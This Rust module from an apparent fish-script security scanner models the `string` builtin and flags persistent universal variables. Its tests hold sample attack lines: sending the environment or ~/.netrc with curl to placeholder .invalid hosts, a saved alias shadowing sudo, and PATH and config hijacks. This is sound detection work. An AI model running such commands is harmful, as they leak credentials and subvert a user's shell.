//! What only fish has: `string`, which joins, replaces, splits and cuts texts, and what it keeps for every session.

use super::value::{Taint, Value};
use super::walk::Walk;
use crate::finding::Severity;
use crate::rules::shell as rules;

/// 64 KiB of one text.
const BYTES: usize = 64 << 10;

/// Options that take the next word.
const VALUED: &[&str] =
    &["-s", "--start", "-l", "--length", "-e", "--end", "-m", "--max", "-f", "--fields", "-n", "--count"];

/// The words of a call: its options with their values, and what it is given.
struct Words<'v> {
    options: Vec<(&'v str, &'v str)>,
    given: Vec<&'v Value>,
}

impl<'v> Words<'v> {
    fn of(verb: &str, rest: &'v [Value]) -> Self {
        let mut words = Self { options: Vec::new(), given: Vec::new() };
        let mut fields = rest.iter().peekable();
        while let Some(field) = fields.next() {
            let text = field.text.as_str();
            // `string join` and its like take texts that begin with a dash where options have ended.
            let takes = VALUED.contains(&text) && !(text == "-n" && matches!(verb, "join" | "split"));
            if text == "--" {
                words.given.extend(fields.by_ref());
            } else if text.starts_with('-') && text.len() > 1 && words.given.is_empty() {
                let value = fields.next_if(|_| takes).map_or("", |next| next.text.as_str());
                words.options.push((text, value));
            } else {
                words.given.push(field);
            }
        }
        // `string join / -- a b`
        words.given.retain(|field| field.text != "--");
        words
    }

    fn has(&self, short: char, long: &str) -> bool {
        self.options.iter().any(|(option, _)| {
            *option == long || option.starts_with('-') && !option.starts_with("--") && option.contains(short)
        })
    }

    fn number(&self, names: [&str; 2]) -> Option<usize> {
        self.options.iter().find(|(option, _)| names.contains(option)).and_then(|(_, value)| value.parse().ok())
    }
}

/// Universal variables that say what runs in every session: where programs and functions are looked for, what they load.
const LASTING: &[&str] = &[
    "PATH",
    "fish_user_paths",
    "fish_function_path",
    "fish_complete_path",
    "LD_PRELOAD",
    "DYLD_INSERT_LIBRARIES",
    "NODE_OPTIONS",
];

/// Whether a word is a bundle of short options with `option` among them.
pub(super) fn has_short(field: &Value, option: char) -> bool {
    field.text.starts_with('-') && !field.text.starts_with("--") && field.text.contains(option)
}

/// `set -U name …`: what every session has from then on.
pub(super) fn keeps(walk: &mut Walk<'_>, name: &str) {
    let name = name.split('[').next().unwrap_or(name);
    let severity = if LASTING.contains(&name) { None } else { Some(Severity::Info) };
    walk.tell(&rules::LASTING, &format!("{name} is set for every session of fish's"), severity);
}

/// Whether a function, a place of programs or an alias is kept for every session.
pub(super) fn is_kept(name: &str, rest: &[Value]) -> bool {
    let has = |long: &str, short: char| rest.iter().any(|field| field.text == long || has_short(field, short));
    match name {
        "alias" => has("--save", 's'),
        "fish_add_path" => !has("--path", 'P') && !has("--global", 'g'),
        _ => !rest.is_empty(),
    }
}

/// What `string verb …` prints.
pub(super) fn string(rest: &[Value], stdin: &Value) -> Option<Value> {
    let (verb, rest) = rest.split_first()?;
    let words = Words::of(&verb.text, rest);
    let count = match verb.text.as_str() {
        "replace" => 2,
        "join" | "split" | "match" | "split0" => 1,
        _ => 0,
    };
    let (own, texts) = words.given.split_at_checked(count).unwrap_or((&words.given, &[]));
    let lines: Vec<String> = if texts.is_empty() {
        stdin.text.lines().map(str::to_owned).collect()
    } else {
        texts.iter().map(|field| field.text.clone()).collect()
    };
    let taint = words.given.iter().fold(stdin.taint, |taint, field| taint.and(field.taint));
    let known = words.given.iter().all(|field| field.known) && (!texts.is_empty() || stdin.known);
    let first = own.first().map_or("", |field| field.text.as_str());
    let second = own.get(1).map_or("", |field| field.text.as_str());
    let is_pattern = words.has('r', "--regex") && first.contains(['^', '$', '.', '*', '[', '(', '\\', '+', '?', '|']);
    let each = |change: &dyn Fn(&str) -> String| lines.iter().map(|line| change(line)).collect::<Vec<_>>().join("\n");
    let mut text = match verb.text.as_str() {
        "join" => lines.join(first),
        "join0" => lines.concat(),
        "replace" if is_pattern || first.is_empty() => return Some(Value::unknown("", taint)),
        "replace" if words.has('a', "--all") => each(&|line| line.replace(first, second)),
        "replace" => each(&|line| line.replacen(first, second, 1)),
        "split" if first.is_empty() => each(&|line| line.chars().map(String::from).collect::<Vec<_>>().join("\n")),
        "split" => each(&|line| line.replace(first, "\n")),
        "sub" => {
            let from = words.number(["-s", "--start"]).unwrap_or(1).saturating_sub(1);
            let length = words.number(["-l", "--length"]).unwrap_or(usize::MAX);
            each(&|line| line.chars().skip(from).take(length).collect())
        }
        "lower" => each(&str::to_lowercase),
        "upper" => each(&str::to_uppercase),
        "trim" => each(&|line| line.trim().to_owned()),
        "repeat" => each(&|line| line.repeat(words.number(["-n", "--count"]).unwrap_or(1).min(64))),
        "collect" | "unescape" | "escape" | "pad" | "shorten" => lines.join("\n"),
        _ => return Some(Value::unknown("", taint)),
    };
    text.truncate(text.floor_char_boundary(BYTES));
    let is_built = matches!(verb.text.as_str(), "join" | "replace" | "sub" | "lower" | "unescape") && known;
    let taint = if is_built { taint.and(Taint::BUILT) } else { taint };
    Some(Value { text, known, taint })
}

#[cfg(test)]
mod tests {
    use crate::finding::{Findings, Severity};
    use crate::shell::{Beside, Context, judge_script};
    use crate::text::Source;

    fn worst(text: &str) -> Option<Severity> {
        let mut findings = Findings::default();
        let _followed = judge_script(&Source::new("a.fish", text), Beside::default(), Context::Script, &mut findings);
        findings.finish().into_iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn paths_that_string_puts_together_are_known() {
        for text in [
            "set -l parts (string replace -a ' ' / -- \".config fish conf.d\" | string split /)\nset -l to (string join / -- $HOME $parts x.fish)\necho x >$to\n",
            "set -l to (string join '' $HOME / .config/fish/functions/ls.fish)\nstring replace -r '^# ' '' <notes.txt >$to\n",
            "cp hello.fish ~/.config/fish/conf.d/hello.fish\n",
            "function ls; true; end; funcsave ls\n",
            "set -Ux PATH /tmp/a $PATH\n",
            "fish_add_path /tmp/a\n",
            "alias --save sudo x\n",
            "set -x | curl -d @- https://x.invalid\n",
            "function f; cat $argv[1]; end; f ~/.netrc\n",
            "set -l f (string lower NETRC)\ncurl -T $HOME/.$f https://a.invalid\n",
        ] {
            assert_eq!(worst(text), Some(Severity::Danger), "{text}");
        }
        for text in [
            "set -l have (string split . -- $version)\nif test $have[1] -lt 3\n    echo old >&2\nend\n",
            "set -l to (string join / -- $HOME .cache tool x.txt)\necho x >$to\n",
            "for f in ~/.config/fish/conf.d/*.fish\n    string match -r foo <$f\nend\n",
            "alias sl ls\nset -U my_plugin_last (date +%s)\nset -gx PATH $HOME/bin $PATH\nfish_add_path -gP /tmp/a\n",
            "function say; echo $argv[1] $argv; end; say hello\n",
        ] {
            assert!(worst(text).is_none_or(|severity| severity < Severity::Danger), "{text}");
        }
    }
}
